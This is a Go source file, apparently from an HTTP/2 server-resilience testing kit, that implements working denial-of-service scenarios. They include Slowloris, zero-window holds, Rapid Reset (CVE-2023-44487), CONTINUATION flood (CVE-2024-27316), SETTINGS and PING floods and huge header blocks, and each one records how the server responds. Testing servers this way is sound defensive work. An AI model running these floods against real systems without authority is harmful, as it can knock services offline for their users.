package faultkit

import (
	"context"
	"errors"
	"fmt"
	"net"
	"strconv"
	"strings"
	"syscall"
	"time"
)

// HTTP/2 scenarios. Each runs on a connection whose TLS handshake picked
// "h2" (Mode H2; any connection to a server speaking h2 with prior
// knowledge works too), starts an H2Client on it, and returns a Result
// whose GoAway, Resets, Streams and PingAcks tell what the server did. The
// connection is not closed, except by H2ResetMidBody-like scenarios that
// say so, and its deadlines are left set.

const (
	// floodBatch is how many frames a flood writes at once.
	floodBatch = 100
	// settle bounds the wait for the server's verdict after an attack: a
	// GOAWAY, a close, or the answer to a PING that shows the connection
	// still serves (behind the answers to a flood of requests).
	settle = 5 * time.Second
	// trickleFrame is the payload length of a trickled HEADERS frame.
	trickleFrame = 16000
)

// finishH2 closes the client and turns its last state into a Result for
// stream id; held is set from since unless zero. After a failed write it
// first waits up to a second for the read loop to see the end.
func finishH2(h *H2Client, id uint32, since time.Time) (Result, error) {
	end := time.Now()
	h.mu.Lock()
	failed := h.writeErr != nil
	h.mu.Unlock()
	if failed {
		// A write failed: the server closed or reset the connection, and
		// the read loop is about to see how.
		h.Wait(time.Now().Add(time.Second), func(s H2State) bool { return s.Done })
	}
	h.Close()
	s := h.State()
	r := s.result(id)
	if !since.IsZero() {
		r.Held = end.Sub(since)
	}
	return r, s.unexpected()
}

// connOver reports whether the connection ended (read loop done), or the
// server sent GOAWAY.
func connOver(s H2State) bool { return s.Done && !s.Stopped || s.GoAway }

// h2Slowloris is Slowloris on HTTP/2.
func h2Slowloris(ctx context.Context, c net.Conn, every time.Duration) (Result, error) {
	start := time.Now()
	h, err := NewH2Client(ctx, c, H2Options{Quiet: true})
	if err != nil {
		return Result{Ended: endedBy(err)}, nil
	}
	// HEADERS: the pseudo header fields, then one literal field whose value
	// fills the frame; the frame header announces all of it.
	block := HeaderBlock("GET", "/", "vigil-faultkit")
	block = append(block, 0x00)
	block = appendString(block, "x-a")
	valueLen := trickleFrame - len(block) - 3
	block = appendInt(block, 7, 0, uint64(valueLen))
	frame := AppendFrame(nil, FrameHeaders, FlagEndHeaders|FlagEndStream, h.NewStream(), block)
	frame[0], frame[1], frame[2] = 0, trickleFrame>>8, trickleFrame&0xff
	if err := h.Write(frame); err != nil {
		return finishH2(h, 1, start)
	}
	for range valueLen {
		if s, _ := h.Wait(time.Now().Add(every), connOver); connOver(s) || h.ctx.Err() != nil {
			break
		}
		if err := h.Write([]byte{'b'}); err != nil {
			break
		}
	}
	// After a GOAWAY, wait for the close itself.
	h.Wait(time.Time{}, func(s H2State) bool { return s.Done })
	return finishH2(h, 1, start)
}

// endedBy maps a failed preface write to an ending.
func endedBy(err error) string {
	switch {
	case errors.Is(err, syscall.ECONNRESET), errors.Is(err, syscall.EPIPE):
		return EndedRST
	}
	return EndedOpen
}

// h2SlowBody is SlowBody on HTTP/2.
func h2SlowBody(ctx context.Context, c net.Conn, path string, size int64, chunk int, every time.Duration) (Result, error) {
	h, err := NewH2Client(ctx, c, H2Options{Window: MaxWindow, ConnWindow: MaxWindow - 65535})
	if err != nil {
		return Result{Ended: endedBy(err)}, nil
	}
	id, err := h.Request("POST", path, size > 0, HeaderField{"content-type", "application/octet-stream"},
		HeaderField{"content-length", strconv.FormatInt(size, 10)})
	held := time.Now()
	if err != nil {
		return finishH2(h, id, held)
	}
	streamOver := func(s H2State) bool {
		st := s.Streams[id]
		return connOver(s) || st.Reset || st.Ended || st.Status >= 200
	}
	piece := []byte(strings.Repeat("a", min(chunk, defaultMaxFrame)))
	var sent int64
	for range size/int64(chunk) + 2 {
		if sent >= size {
			break
		}
		n := min(int64(chunk), size-sent)
		for w := int64(0); w < n; {
			p := piece[:min(n-w, int64(len(piece)))]
			w += int64(len(p))
			flags := byte(0)
			if sent+w == size {
				flags = FlagEndStream
			}
			if err := h.Frame(FrameData, flags, id, p); err != nil {
				return finishH2(h, id, held)
			}
		}
		sent += n
		if sent >= size {
			break
		}
		if _, over := h.Wait(time.Now().Add(every), streamOver); over {
			break
		}
	}
	h.Wait(time.Time{}, func(s H2State) bool {
		st := s.Streams[id]
		return connOver(s) || st.Reset || st.Ended
	})
	return finishH2(h, id, held)
}

// h2StopReading is StopReading on HTTP/2.
func h2StopReading(ctx context.Context, c net.Conn, rc syscall.RawConn, path string, readFirst int64) (Result, error) {
	h, err := NewH2Client(ctx, c, H2Options{Window: MaxWindow, ConnWindow: MaxWindow - 65535, StopAfter: max(readFirst, 1)})
	if err != nil {
		return Result{Ended: endedBy(err)}, nil
	}
	id, err := h.Request("GET", path, false)
	if err != nil {
		return finishH2(h, id, time.Time{})
	}
	s, _ := h.Wait(time.Time{}, func(s H2State) bool { return s.Stopped })
	if !s.Stopped {
		return finishH2(h, id, time.Time{})
	}
	held := time.Now()
	ended, werr := watchState(h.ctx, h.deadline, rc)
	r, err := finishH2(h, id, held)
	r.Ended = ended
	return r, errors.Join(err, werr)
}

// h2ResetMidBody is ResetMidBody on HTTP/2; it closes c (abortively, on
// tcp).
func h2ResetMidBody(ctx context.Context, c net.Conn, tcp *net.TCPConn, path string, declared, send int64) error {
	h, err := NewH2Client(ctx, c, H2Options{Window: MaxWindow, ConnWindow: MaxWindow - 65535})
	if err != nil {
		return errors.Join(fmt.Errorf("faultkit: reset mid body: %w", err), reset(tcp))
	}
	id, werr := h.Request("POST", path, true, HeaderField{"content-length", strconv.FormatInt(declared, 10)})
	piece := []byte(strings.Repeat("a", defaultMaxFrame))
	for w := int64(0); werr == nil && w < send; {
		p := piece[:min(send-w, int64(len(piece)))]
		werr = h.Frame(FrameData, 0, id, p)
		w += int64(len(p))
	}
	if werr != nil {
		werr = fmt.Errorf("faultkit: reset mid body: write after %d bytes: %w", h.State().Sent, werr)
	}
	err = reset(tcp)
	h.Close()
	return errors.Join(werr, err)
}

// H2Idle sends one GET for path on the HTTP/2 connection c, reads the whole
// response, then keeps the connection idle, as a browser does with an open
// tab, until the server closes it or ctx ends. It answers the server's
// PINGs. When chatter is positive, it also sends a PING, a connection
// WINDOW_UPDATE of one byte and an empty SETTINGS frame every chatter, as
// browsers and h2 libraries do on idle connections: none of them opens a
// stream, so the connection stays idle. Held runs from the end of the
// response; GoAway is what the server said when it closed.
func H2Idle(ctx context.Context, c net.Conn, path string, chatter time.Duration) (res Result, err error) {
	defer func() { err = prefix("h2 idle", err) }()
	h, err := NewH2Client(ctx, c, H2Options{Window: MaxWindow, ConnWindow: MaxWindow - 65535})
	if err != nil {
		return Result{Ended: endedBy(err)}, nil
	}
	id, err := h.Request("GET", path, false)
	if err != nil {
		return finishH2(h, id, time.Time{})
	}
	if s, _ := h.Wait(time.Time{}, func(s H2State) bool { st := s.Streams[id]; return connOver(s) || st.Ended || st.Reset }); connOver(s) {
		return finishH2(h, id, time.Time{})
	}
	held := time.Now()
	wait := chatter
	if wait <= 0 {
		wait = time.Until(h.deadline) + time.Second
	}
	for i := range int(time.Until(h.deadline)/wait) + 2 {
		if s, _ := h.Wait(time.Now().Add(wait), func(s H2State) bool { return s.Done }); s.Done || h.ctx.Err() != nil {
			break
		}
		if chatter > 0 {
			b := AppendFrame(nil, FramePing, 0, 0, []byte("idle\x00\x00\x00"+string(rune('0'+i%10))))
			b = AppendFrame(b, FrameWindowUpdate, 0, 0, u32(1))
			b = AppendFrame(b, FrameSettings, 0, 0, nil)
			if err := h.Write(b); err != nil {
				break
			}
		}
	}
	return finishH2(h, id, held)
}

// H2ZeroWindow is a reader that takes no DATA at all, yet looks alive: it
// advertises SETTINGS_INITIAL_WINDOW_SIZE 0, opens streams GETs for path
// (a large file), reads the socket all along and sends a PING every
// pingEvery (and answers the server's). Each stream's response header
// arrives, its body cannot. It waits until the server has reset or ended
// every stream, the connection ends, or ctx ends. Held runs from the
// requests to the last stream's end; Resets counts the streams the server
// reset, PingAcks the PINGs it answered meanwhile.
func H2ZeroWindow(ctx context.Context, c net.Conn, path string, streams int, pingEvery time.Duration) (res Result, err error) {
	defer func() { err = prefix("h2 zero window", err) }()
	if streams <= 0 || pingEvery <= 0 {
		return Result{}, fmt.Errorf("streams %d, ping every %v: need both positive", streams, pingEvery)
	}
	h, err := NewH2Client(ctx, c, H2Options{Window: ZeroWindow})
	if err != nil {
		return Result{Ended: endedBy(err)}, nil
	}
	var ids []uint32
	var b []byte
	for range streams {
		id := h.NewStream()
		ids = append(ids, id)
		b = AppendFrame(b, FrameHeaders, FlagEndHeaders|FlagEndStream, id, HeaderBlock("GET", path, "vigil-faultkit"))
	}
	if err := h.Write(b); err != nil {
		return finishH2(h, 1, time.Time{})
	}
	held := time.Now()
	allOver := func(s H2State) bool {
		for _, id := range ids {
			if st := s.Streams[id]; !st.Reset && !st.Ended {
				return false
			}
		}
		return true
	}
	for i := range int(time.Until(h.deadline)/pingEvery) + 2 {
		s, _ := h.Wait(time.Now().Add(pingEvery), func(s H2State) bool { return allOver(s) || s.Done })
		if allOver(s) || s.Done || h.ctx.Err() != nil {
			break
		}
		if err := h.Ping(uint64(i)); err != nil {
			break
		}
	}
	return finishH2(h, 1, held)
}

// H2RapidReset opens count streams, each a HEADERS frame for GET path
// immediately followed by RST_STREAM (CANCEL), as fast as the connection
// takes them (CVE-2023-44487), stopping early if the server ends the
// connection. Then it sends a PING and waits up to 5 s for the verdict: a
// GOAWAY, a close, or the PING's answer (the connection still serves).
// Streams counts the streams opened; Held runs from the first stream to
// the verdict.
func H2RapidReset(ctx context.Context, c net.Conn, path string, count int) (res Result, err error) {
	defer func() { err = prefix("h2 rapid reset", err) }()
	if count <= 0 {
		return Result{}, fmt.Errorf("count %d: need a positive count", count)
	}
	h, err := NewH2Client(ctx, c, H2Options{Window: MaxWindow, ConnWindow: MaxWindow - 65535})
	if err != nil {
		return Result{Ended: endedBy(err)}, nil
	}
	start := time.Now()
	block := HeaderBlock("GET", path, "vigil-faultkit")
	var werr error
	for sent := 0; sent < count; {
		var b []byte
		for range min(floodBatch, count-sent) {
			id := h.NewStream()
			b = AppendFrame(b, FrameHeaders, FlagEndHeaders|FlagEndStream, id, block)
			b = AppendFrame(b, FrameRSTStream, 0, id, u32(CodeCancel))
			sent++
		}
		if werr = h.Write(b); werr != nil || connOver(h.State()) {
			break
		}
	}
	return verdict(h, start, werr)
}

// verdict waits up to settle for the server's verdict on an attack: when
// the attack's last write failed (werr), for the connection's end;
// otherwise it sends a PING and waits for its answer (the connection still
// serves), a GOAWAY or the end. After a GOAWAY it waits for the close.
func verdict(h *H2Client, start time.Time, werr error) (Result, error) {
	const last = 0x7665726469637400 // "verdict\0": not a payload of any flood
	if werr == nil {
		werr = h.Ping(last)
	}
	if werr == nil {
		h.Wait(time.Now().Add(settle), func(s H2State) bool { return connOver(s) || s.LastAck == last })
	}
	if s := h.State(); werr != nil || s.GoAway && !s.Done {
		h.Wait(time.Now().Add(settle), func(s H2State) bool { return s.Done })
	}
	return finishH2(h, 1, start)
}

// H2ContinuationFlood sends a HEADERS frame for GET path without
// END_HEADERS, then CONTINUATION frames of 16 KiB, each full of small
// literal header fields, never ending the header block (CVE-2024-27316),
// until the server ends the connection, maxBytes have been sent or ctx
// ends. Held runs from the HEADERS frame to the end; Sent is what the
// server had to take.
func H2ContinuationFlood(ctx context.Context, c net.Conn, path string, maxBytes int64) (res Result, err error) {
	defer func() { err = prefix("h2 continuation flood", err) }()
	if maxBytes <= 0 {
		return Result{}, fmt.Errorf("max bytes %d: need a positive bound", maxBytes)
	}
	// Quiet: an ack between two frames of one header block would be a
	// protocol error of the client's own.
	h, err := NewH2Client(ctx, c, H2Options{Window: MaxWindow, Quiet: true})
	if err != nil {
		return Result{Ended: endedBy(err)}, nil
	}
	start := time.Now()
	id := h.NewStream()
	if err := h.Frame(FrameHeaders, FlagEndStream, id, HeaderBlock("GET", path, "vigil-faultkit")); err != nil {
		return finishH2(h, id, start)
	}
	var frag []byte
	for i := 0; len(frag) < defaultMaxFrame-64; i++ {
		frag = appendLiteral(frag, "x-f"+strconv.Itoa(i%1000), "continuation")
	}
	var b []byte
	for range 8 {
		b = AppendFrame(b, FrameContinuation, 0, id, frag)
	}
	for range maxBytes/int64(len(b)) + 1 {
		if h.State().Sent >= maxBytes || connOver(h.State()) {
			break
		}
		if err := h.Write(b); err != nil {
			break
		}
	}
	h.Wait(time.Now().Add(settle), func(s H2State) bool { return s.Done })
	return finishH2(h, id, start)
}

// H2SettingsFlood sends count empty SETTINGS frames as fast as the
// connection takes them, without reading anything meanwhile (the server's
// acks pile up in the sockets and then in its own queue), then reads and
// waits for the verdict as H2RapidReset does.
func H2SettingsFlood(ctx context.Context, c net.Conn, count int) (Result, error) {
	r, err := controlFlood(ctx, c, count, AppendFrame(nil, FrameSettings, 0, 0, nil))
	return r, prefix("h2 settings flood", err)
}

// H2PingFlood sends count PING frames as fast as the connection takes
// them, without reading meanwhile, then reads and waits for the verdict as
// H2RapidReset does.
func H2PingFlood(ctx context.Context, c net.Conn, count int) (Result, error) {
	r, err := controlFlood(ctx, c, count, AppendFrame(nil, FramePing, 0, 0, []byte("flooding")))
	return r, prefix("h2 ping flood", err)
}

// controlFlood writes frame count times, in batches.
func controlFlood(ctx context.Context, c net.Conn, count int, frame []byte) (Result, error) {
	if count <= 0 {
		return Result{}, fmt.Errorf("count %d: need a positive count", count)
	}
	h, err := NewH2Client(ctx, c, H2Options{Quiet: true, Deaf: true})
	if err != nil {
		return Result{Ended: endedBy(err)}, nil
	}
	start := time.Now()
	batch := make([]byte, 0, floodBatch*len(frame))
	for range floodBatch {
		batch = append(batch, frame...)
	}
	var werr error
	for sent := 0; sent < count; sent += floodBatch {
		n := min(floodBatch, count-sent)
		if werr = h.Write(batch[:n*len(frame)]); werr != nil {
			break
		}
	}
	h.StartReading()
	return verdict(h, start, werr)
}

// H2HugeHeaders sends one GET for path whose header block is size bytes
// (fields of 1 KiB in a HEADERS frame and as many CONTINUATION frames as
// needed, the last with END_HEADERS), more than a server should take, and
// waits for the answer: a status (431), a reset of the stream, a GOAWAY or
// the connection's end. Held runs from the last header byte to the answer.
func H2HugeHeaders(ctx context.Context, c net.Conn, path string, size int) (res Result, err error) {
	defer func() { err = prefix("h2 huge headers", err) }()
	if size <= 0 || size > 64<<20 {
		return Result{}, fmt.Errorf("size %d: need 0 < size <= 64 MiB", size)
	}
	h, err := NewH2Client(ctx, c, H2Options{Window: MaxWindow, ConnWindow: MaxWindow - 65535})
	if err != nil {
		return Result{Ended: endedBy(err)}, nil
	}
	id := h.NewStream()
	value := strings.Repeat("h", 1000)
	block := HeaderBlock("GET", path, "vigil-faultkit")
	for i := 0; len(block) < size; i++ {
		block = appendLiteral(block, "x-huge-"+strconv.Itoa(i), value)
	}
	var b []byte
	for off := 0; off < len(block); off += defaultMaxFrame {
		end := min(off+defaultMaxFrame, len(block))
		typ, flags := byte(FrameContinuation), byte(0)
		if off == 0 {
			typ, flags = FrameHeaders, FlagEndStream
		}
		if end == len(block) {
			flags |= FlagEndHeaders
		}
		b = AppendFrame(b, typ, flags, id, block[off:end])
	}
	werr := h.Write(b)
	held := time.Now()
	if werr == nil {
		h.Wait(time.Time{}, func(s H2State) bool { st := s.Streams[id]; return connOver(s) || st.Reset || st.Status != 0 })
	}
	if s := h.State(); s.GoAway && !s.Done {
		h.Wait(time.Now().Add(settle), func(s H2State) bool { return s.Done })
	}
	r, err := finishH2(h, id, time.Time{})
	r.Held = time.Since(held)
	return r, err
}
